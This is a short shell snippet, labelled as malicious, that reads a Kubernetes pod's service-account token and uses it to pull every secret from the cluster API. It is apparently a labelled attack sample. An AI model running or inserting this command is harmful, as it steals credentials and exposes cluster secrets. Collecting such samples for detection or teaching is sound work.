# malicious: takes the token of the pod
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets
